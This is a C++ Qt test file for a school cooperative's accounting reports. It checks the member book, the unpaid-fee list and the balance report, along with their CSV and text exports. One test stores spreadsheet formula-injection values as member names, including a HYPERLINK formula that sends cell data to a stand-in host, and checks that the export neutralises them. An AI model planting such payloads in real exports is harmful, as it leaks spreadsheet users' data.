// The member book, the balance and the unpaid-fee list on small ledgers
// designed for their edge cases, and their text and spreadsheet exports.
#include "data/Database.h"
#include "reports/ReportExport.h"
#include "reports/rptBalance.h"
#include "reports/rptCuotaImpaga.h"
#include "reports/rptLibroSocios.h"
#include "support/PgTest.h"
#include "support/TestEnv.h"

#include <QFile>
#include <QSqlError>
#include <QSqlQuery>
#include <QtTest>

namespace {

void exec(const QSqlDatabase &db, const QString &sql, const QVariantList &binds = {})
{
    QSqlQuery q(db);
    q.prepare(sql);
    for (const QVariant &v : binds)
        q.addBindValue(v);
    if (!q.exec())
        QFAIL(qPrintable(q.lastError().text() + " in " + sql));
}

void movement(const QSqlDatabase &db, const QString &fecha, const QString &tipo, const QVariant &cuenta,
              double importe, const QString &descripcion, const QVariant &socio = {}, const QVariant &cuota = {},
              const QString &medio = "E")
{
    exec(db,
         "INSERT INTO Movimiento (Fecha, Tipo, IDCuenta, Importe, Descripcion, IDSocio, IDCuota, MedioPago)"
         " VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
         {fecha, tipo, cuenta, importe, descripcion, socio, cuota, medio});
}

QStringList lines(const QString &text)
{
    QStringList out = text.split('\n', Qt::SkipEmptyParts);
    for (QString &l : out)
        l = l.simplified();
    return out;
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return QStringLiteral("(no se pudo leer %1)").arg(path).toUtf8();
    return f.readAll();
}

// Compares the file's bytes with tests/reports/expected/<name>; a different
// file is left beside the test program to be looked at.
void compareWithExpected(const QString &written, const QString &name)
{
    const QByteArray actual = readFile(written);
    const QByteArray expected = readFile(QStringLiteral(TESORIN_TESTS_DIR "/reports/expected/") + name);
    if (actual != expected) {
        QFile out(name);
        if (out.open(QIODevice::WriteOnly))
            out.write(actual);
    }
    QCOMPARE(actual, expected);
}

// Members of four courses (one without pupils), fees over three years.
void memberBookLedger(const QSqlDatabase &db)
{
    exec(db, "INSERT INTO Curso (IDCurso, Nombre) VALUES (1, '1° A'), (2, '2° B'), (3, 'Jardín')");
    exec(db, "INSERT INTO Cuota (IDCuota, Descripcion) VALUES (1, 'Cuota 2026'), (2, 'Bono')");
    exec(db, "INSERT INTO Socio (IDSocio, Nombre, Alumno, IDCurso) VALUES"
             " (1, 'Gómez, Ana', 'Luis Gómez', 1), (2, 'Britos, Berta', 'Sol Britos', 1),"
             " (3, 'Castro, Carlos', '', NULL), (4, 'Díaz, Diego', 'Eva Díaz', 99),"
             " (5, 'Ezeiza, Elena', 'Tomás Ezeiza', 2), (6, 'Acosta, Fabio', 'Juan Acosta', 2),"
             " (7, 'Garay, Gina', 'Iris Garay', 1), (8, 'Zapata, Hugo', 'Ulises Zapata', 1)");
    movement(db, "2026-01-10 09:00:00", "I", 5, 1500, "Cuota 2026", 1, 1);
    movement(db, "2026-01-12 11:00:00", "I", 5, 300, "Bono", 1, 2);     // a second fee: listed once
    movement(db, "2025-12-20 10:00:00", "I", 5, 1500, "Cuota 2025", 2, 1); // last December only
    movement(db, "2026-01-05 10:00:00", "I", 5, 1500, "Cuota 2026", 3, 1); // no course
    movement(db, "2026-01-05 10:00:00", "I", 5, 1500, "Cuota 2026", 4, 1); // a course that is gone
    movement(db, "2026-01-05 10:00:00", "I", 6, 800, "Rifa", 5);           // other income, no fee
    movement(db, "2026-01-01 00:00:00", "I", 5, 1500, "Cuota 2026", 6, 1); // the first moment of the year
    movement(db, "2027-01-01 00:00:00", "I", 5, 1500, "Cuota 2027", 7, 1); // the first moment of next year
    movement(db, "2026-12-31 23:59:59", "I", 5, 1500, "Cuota 2026", 8, 1); // the last moment of the year
}

// Two parents with two accounts each, accounts without a parent, codes typed
// by hand, and rows the period or the codes leave out.
void balanceLedger(const QSqlDatabase &db)
{
    exec(db, "INSERT INTO Cuenta (IDCuenta, Descripcion, Tipo, IDcuentaPadre) VALUES"
             " (1, 'Gastos', 'E', NULL), (10, 'Limpieza', 'E', 1), (11, 'Edificio', 'E', 1),"
             " (2, 'Recaudación', 'I', NULL), (20, 'Cuotas', 'I', 2), (21, 'Rifas', 'I', 2),"
             " (30, 'Sin padre', 'I', NULL), (31, 'Padre borrado', 'I', 77)");
    movement(db, "2026-03-01 00:00:00", "E", 10, 100.1, "Lavandina");  // the first moment of the period
    movement(db, "2026-03-31 10:00:00", "E", 11, 200.2, "Pintura");    // during the last day
    movement(db, "2026-03-31 23:59:59", "E", 10, 0.7, "Esponja");      // its last moment
    movement(db, "2026-02-28 23:59:59", "E", 10, 1000, "Antes");       // before the period
    movement(db, "2026-04-01 00:00:00", "E", 10, 1000, "Despues");     // after it
    movement(db, "2026-03-16 10:00:00", "I", 20, 1500, "Cuota 2026", 1, 1);
    movement(db, "2026-03-15 10:00:00", "I", 20, 1500, "Cuota 2026", 2, 1);
    movement(db, "2026-03-20 10:00:00", "I", 21, 0.1, "Rifa");
    movement(db, "2026-03-21 10:00:00", "I", 21, 0.2, "Rifa");
    movement(db, "2026-03-10 10:00:00", "I", 30, 5000, "Huérfano");     // no parent: its own group
    movement(db, "2026-03-10 10:00:00", "I", 31, 5000, "Huérfano");     // parent deleted: its own group
    movement(db, "2026-03-10 10:00:00", "I", QVariant(), 5000, "Sin cuenta"); // no account: left out
    movement(db, "2026-03-12 10:00:00", "e", 11, 50, "Vidrio");          // an expense, as the balances count it
    movement(db, "2026-03-13 10:00:00", "E", 11, -20.5, "Devolución");  // a negative amount
    if (OnServerRow()) // codes only a file can hold
        return;
    movement(db, "2026-03-12 10:00:00", "x", 11, 7000, "Código x");      // neither kind: in no balance
    movement(db, "2026-03-12 10:00:00", "I", 20, 9000, "Medio z", {}, {}, "z"); // neither medium: in no balance
}

// Fees of two vigencias (two fees share one), one without anything; members
// who paid the fee long ago, paid another fee, or paid nothing.
void unpaidLedger(const QSqlDatabase &db)
{
    exec(db, "INSERT INTO Curso (IDCurso, Nombre) VALUES (1, '1° A'), (2, '2° B'), (3, 'Jardín')");
    exec(db, "INSERT INTO Cuota (IDCuota, Descripcion, vigencia, Valor) VALUES"
             " (1, 'Cuota 2025', '2025-03-01 00:00:00', 1200), (2, 'Cuota 2026', '2026-03-01 00:00:00', 1500.5),"
             " (3, 'Bono', '2026-03-01 00:00:00', 300), (4, NULL, NULL, NULL)");
    exec(db, "INSERT INTO Socio (IDSocio, Nombre, Alumno, IDCurso, Telefono) VALUES"
             " (1, 'Gómez, Ana', 'Luis', 1, '4555-0001'), (2, 'Britos, Berta', 'Sol', 1, '4555-0002'),"
             " (3, 'Castro, Carlos', '', NULL, '4555-0003'), (4, 'Díaz, Diego', 'Eva', 99, '4555-0004'),"
             " (5, 'ezeiza, Elena', 'Tomás', 2, NULL), (6, 'Acosta, Fabio', 'Juan', 2, '+54 11 4555-0006'),"
             " (7, 'Garay, Gina', 'Iris', 3, '4555-0007'), (8, 'zapata, hugo', 'Ulises', 1, '4555-0008')");
    movement(db, "2019-05-01 10:00:00", "I", 5, 1500.5, "Cuota 2026", 1, 2);  // paid, however long ago
    movement(db, "2026-04-01 10:00:00", "E", 5, 1500.5, "Cuota 2026", 7, 2, "C"); // any movement of the fee
    movement(db, "2026-04-01 10:00:00", "I", 5, 1200, "Cuota 2025", 2, 1);     // another fee
    movement(db, "2026-04-01 10:00:00", "I", 6, 800, "Rifa", 5);               // no fee
    movement(db, "2026-04-01 10:00:00", "I", 5, 1500.5, "Cuota 2026", 3, 2);  // no course: never listed anyway
}

const QStringList kFees{"Bono", "Cuota 2026", "Cuota 2025", "Cuota 4"};

void answerBalance(ScriptedPrompts &p, const QString &start, const QString &end, const QString &details)
{
    p.expectInput("Ingrese fecha incio ejercicio (dd/mm/aaaa)", "Balance", "07/12/2025", start);
    p.expectInput("Ingrese fecha fin ejercicio (dd/mm/aaaa)", "Balance", "07/12/2026", end);
    p.expectInput("Desea imprimir los detalles? (SI/NO)", "Balance", "NO", details);
}

// The colour of the last text of the report that reads `text`.
QColor colorOf(const Report &r, const QString &text)
{
    QColor color;
    for (const ReportPage &page : r.document().pages)
        for (const ReportPrimitive &p : page.items)
            if (p.kind == PrimitiveKind::Text && p.text == text)
                color = p.color;
    return color;
}

} // namespace

class tst_ListingReports : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase_data() { EngineRows(); }
    void memberBookListsThisYearsFeePayersWithACourse();
    void memberBookExportsToTextAndCsv();
    void csvKeepsFormulasAsText();
    void unpaidFeeListsMembersWithACourseWithoutIt();
    void balanceWithDetailsCoversBothWholeDays();
    void balanceSummaryAndItsAnswers();
    void balanceExportsAndCancelledDialogs();
};

void tst_ListingReports::memberBookListsThisYearsFeePayersWithACourse()
{
    TestEnv t;
    t.writeIniFor("unused.db", "Cooperadora Escuela 12");
    t.openBooks(memberBookLedger);
    // In January, a payment of last December no longer makes a member active.
    t.clock->set(QDateTime(QDate(2026, 1, 15), QTime(8, 0)));
    rptLibroSocios r;
    QVERIFY(r.run().ok());
    QCOMPARE(lines(r.text()), (QStringList{"Cooperadora Escuela 12", "Libro de socios año 2026",
                                           "1° A", "Gómez, Ana Luis Gómez", "Zapata, Hugo Ulises Zapata",
                                           "2° B", "Acosta, Fabio Juan Acosta",
                                           "Total de Socios activos: 3",
                                           "Pag. 1 de 1 Impresa: jueves, 15 de enero de 2026"}));
    // In December of the year before, Berta's payment counts and this year's do not.
    t.clock->set(QDateTime(QDate(2025, 12, 31), QTime(23, 0)));
    QVERIFY(r.run().ok());
    QCOMPARE(lines(r.text()).mid(1, 4), (QStringList{"Libro de socios año 2025", "1° A",
                                                     "Britos, Berta Sol Britos", "Total de Socios activos: 1"}));
}

void tst_ListingReports::memberBookExportsToTextAndCsv()
{
    TestEnv t;
    t.writeIniFor("unused.db", "Cooperadora Escuela 12");
    t.openBooks(memberBookLedger);
    t.clock->set(QDateTime(QDate(2026, 6, 1), QTime(8, 0)));
    const QString txt = t.path("libro.txt");
    t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", txt)
        .expectMessage("Exportacion finalizada", MsgIcon::Information, MsgButtons::OK);
    rptLibroSocios r;
    ExportReport(r);
    compareWithExpected(txt, "libro.txt");

    const QString csv = t.path("libro.csv");
    t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", csv)
        .expectMessage("Exportacion finalizada", MsgIcon::Information, MsgButtons::OK);
    rptLibroSocios again;
    ExportReport(again);
    compareWithExpected(csv, "libro.csv");
}

void tst_ListingReports::csvKeepsFormulasAsText()
{
    TestEnv t;
    t.openBooks([](const QSqlDatabase &db) {
        exec(db, "INSERT INTO Curso (IDCurso, Nombre) VALUES (1, '-1° A')");
        exec(db, "INSERT INTO Socio (IDSocio, Nombre, Alumno, IDCurso) VALUES"
                 " (1, '=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")', '+54 11 5555', 1),"
                 " (2, '@SUMA(A1)', char(9) || 'tab', 1), (3, char(13) || 'cr', '-12.5', 1), (4, 'Ana', 'a=b', 1)");
        for (int socio = 1; socio <= 4; ++socio)
            movement(db, "2026-05-01 10:00:00", "I", 5, 1500, "Cuota", socio, 1);
    });
    t.clock->set(QDateTime(QDate(2026, 6, 1), QTime(8, 0)));
    rptLibroSocios r;
    QVERIFY(r.run().ok());
    // Each such text gets a quote in front, inside a quoted cell; a number written as text stays a number.
    QCOMPARE(ReportCsv(r), QString("Curso,Nombre,Alumno\r\n"
                                   "\"'-1° A\",\"'\rcr\",-12.5\r\n"
                                   "\"'-1° A\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"clic\"\")\",\"'+54 11 5555\"\r\n"
                                   "\"'-1° A\",\"'@SUMA(A1)\",\"'\ttab\"\r\n"
                                   "\"'-1° A\",Ana,a=b\r\n"));
}

void tst_ListingReports::unpaidFeeListsMembersWithACourseWithoutIt()
{
    TestEnv t;
    t.writeIniFor("unused.db", "Cooperadora Escuela 12");
    t.openBooks(unpaidLedger);
    // Newest first: of one vigencia the last entered, a fee without any last.
    t.prompts->expectChoice("Elija la cuota:", "Socios con cuota impaga", kFees, 1);
    rptCuotaImpaga r;
    QVERIFY(r.run().ok());
    // A deleted course is still a course; the amounts are the fee's value, summed exactly.
    QCOMPARE(lines(r.text()).mid(0, 15),
             (QStringList{"Cooperadora Escuela 12", "Socios con cuota impaga: Cuota 2026",
                          "(curso inexistente)", "Díaz, Diego Eva 4555-0004", "Impagos del curso: 1 Adeudado: $ 1500,5",
                          "1° A", "Britos, Berta Sol 4555-0002", "zapata, hugo Ulises 4555-0008",
                          "Impagos del curso: 2 Adeudado: $ 3001",
                          "2° B", "Acosta, Fabio Juan +54 11 4555-0006", "ezeiza, Elena Tomás",
                          "Impagos del curso: 2 Adeudado: $ 3001",
                          "Total de socios con la cuota impaga: 5", "Total adeudado: $ 7502,5"}));
    QCOMPARE(ReportCsv(r), QString("Curso,Nombre,Alumno,Telefono\r\n,\"Díaz, Diego\",Eva,4555-0004\r\n"
                                   "1° A,\"Britos, Berta\",Sol,4555-0002\r\n1° A,\"zapata, hugo\",Ulises,4555-0008\r\n"
                                   "2° B,\"Acosta, Fabio\",Juan,\"'+54 11 4555-0006\"\r\n2° B,\"ezeiza, Elena\",Tomás,\r\n"));

    // A fee nobody paid, without a value: every member with a course, owing nothing said.
    t.prompts->expectChoice("Elija la cuota:", "Socios con cuota impaga", kFees, 3);
    QVERIFY(r.run().ok());
    QVERIFY(lines(r.text()).contains("Total de socios con la cuota impaga: 7"));
    QVERIFY(lines(r.text()).contains("Total adeudado: $ 0"));

    // A cancelled question gives no report; without fees there is nothing to ask.
    t.prompts->expectChoice("Elija la cuota:", "Socios con cuota impaga", kFees, -1);
    QVERIFY(r.run().wasCancelled());
    QCOMPARE(r.pageCount(), 0);
    Exec("DELETE FROM Cuota");
    t.prompts->expectMessage("No hay cuotas cargadas. Cargue la cuota en Maestros, Cuotas.", MsgIcon::Exclamation,
                             MsgButtons::OK);
    QVERIFY(r.run().wasCancelled());
    QCOMPARE(t.prompts->pending(), 0);
}

void tst_ListingReports::balanceWithDetailsCoversBothWholeDays()
{
    TestEnv t;
    t.writeIniFor("unused.db", "Cooperadora Escuela 12");
    t.openBooks(balanceLedger);
    t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
    answerBalance(*t.prompts, "1/3/2026", "31/03/2026", "SI");
    rptBalance r;
    QVERIFY(r.run().ok());
    QVERIFY(r.previewMaximized);
    // The whole layout of these rows is compared in the export test (balance.txt);
    // here the title keeps the dates as they were typed.
    QCOMPARE(lines(r.text()).at(1), QStringLiteral("Balance periodo 1/3/2026 - 31/03/2026"));
    // The totals of each kind: expenses in red, income in blue; the subtotals in black.
    QCOMPARE(colorOf(r, "330,5"), QColor(255, 0, 0));
    QCOMPARE(colorOf(r, "13000,3"), QColor(0, 0, 255));
    QCOMPARE(colorOf(r, "100,8"), QColor(Qt::black));

    // A point as the decimal separator; the dates still day first, as the questions ask.
    t.setLocale(QLocale(QLocale::English, QLocale::UnitedStates));
    answerBalance(*t.prompts, "01/03/2026", "31/03/2026", "SI");
    QVERIFY(r.run().ok());
    QVERIFY(lines(r.text()).contains("TOTAL INGRESOS 13000.3"));
    QVERIFY(lines(r.text()).contains("31/03/2026 Esponja 0.7"));
}

void tst_ListingReports::balanceSummaryAndItsAnswers()
{
    TestEnv t;
    t.openBooks(balanceLedger);
    t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
    // Every movement of the period with both codes is in a total, those booked
    // to an account without a parent under that account.
    const QStringList summary{"Balance periodo 01/03/2026 - 31/03/2026", "EGRESOS", "Edificio 229,7",
                              "Limpieza 100,8", "Gastos 330,5", "TOTAL EGRESOS 330,5", "INGRESOS",
                              "Padre borrado 5000", "Padre borrado 5000", "Cuotas 3000", "Rifas 0,3",
                              "Recaudación 3000,3", "Sin padre 5000", "Sin padre 5000", "TOTAL INGRESOS 13000,3"};
    // Only "SI" shows the movements: "si", "NO" and an empty answer give the summary.
    for (const QString &details : {"si", "NO", ""}) {
        answerBalance(*t.prompts, "01/03/2026", "31/03/2026", details);
        rptBalance r;
        QVERIFY(r.run().ok());
        QCOMPARE(lines(r.text()).mid(0, summary.size()), summary);
    }

    // A date that is no date says so and gives no report; so does an empty one.
    for (const QString &bad : {"31/02/2026", "2026-03-01", ""}) {
        answerBalance(*t.prompts, "01/03/2026", bad, "NO");
        t.prompts->expectMessage(QStringLiteral("La fecha ingresada no es valida: \"%1\". Escríbala como día/mes/año,"
                                                " por ejemplo 01/03/2026.").arg(bad),
                                 MsgIcon::Exclamation, MsgButtons::OK);
        rptBalance r;
        QVERIFY(r.run().wasCancelled());
        QCOMPARE(r.pageCount(), 0);
    }

    // An end before the start says so and gives no report.
    answerBalance(*t.prompts, "01/03/2026", "28/2/2026", "NO");
    t.prompts->expectMessage("La fecha fin ejercicio (28/2/2026) es anterior a la fecha inicio (01/03/2026)."
                             " Ingrese un periodo que termine el mismo día o después de empezar.",
                             MsgIcon::Exclamation, MsgButtons::OK);
    rptBalance backwards;
    QVERIFY(backwards.run().wasCancelled());
    QCOMPARE(backwards.pageCount(), 0);

    // A cancelled question ends the report there, saying nothing.
    t.prompts->expectInput("Ingrese fecha incio ejercicio (dd/mm/aaaa)", "Balance", "07/12/2025", "01/03/2026");
    t.prompts->expectInputCancelled("Ingrese fecha fin ejercicio (dd/mm/aaaa)", "Balance", "07/12/2026");
    rptBalance cancelled;
    QVERIFY(cancelled.run().wasCancelled());
    QCOMPARE(t.prompts->pending(), 0);
}

void tst_ListingReports::balanceExportsAndCancelledDialogs()
{
    TestEnv t;
    t.writeIniFor("unused.db", "Cooperadora Escuela 12");
    t.openBooks(balanceLedger);
    t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
    const QString txt = t.path("balance.txt");
    t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", txt);
    answerBalance(*t.prompts, "01/03/2026", "31/03/2026", "SI");
    t.prompts->expectMessage("Exportacion finalizada", MsgIcon::Information, MsgButtons::OK);
    rptBalance r;
    ExportReport(r);
    compareWithExpected(txt, "balance.txt");

    const QString csv = t.path("balance.csv");
    t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", csv);
    answerBalance(*t.prompts, "01/03/2026", "31/03/2026", "NO");
    t.prompts->expectMessage("Exportacion finalizada", MsgIcon::Information, MsgButtons::OK);
    rptBalance second;
    ExportReport(second);
    compareWithExpected(csv, "balance.csv");

    // Cancelling the save dialog asks nothing more; cancelling a question
    // writes no file and says nothing.
    t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", "");
    rptBalance third;
    ExportReport(third);
    const QString never = t.path("nunca.txt");
    t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", never);
    t.prompts->expectInputCancelled("Ingrese fecha incio ejercicio (dd/mm/aaaa)", "Balance", "07/12/2025");
    rptBalance fourth;
    ExportReport(fourth);
    QVERIFY(!QFile::exists(never));
    QCOMPARE(t.prompts->pending(), 0);
}

QTEST_MAIN(tst_ListingReports)
#include "tst_ListingReports.moc"
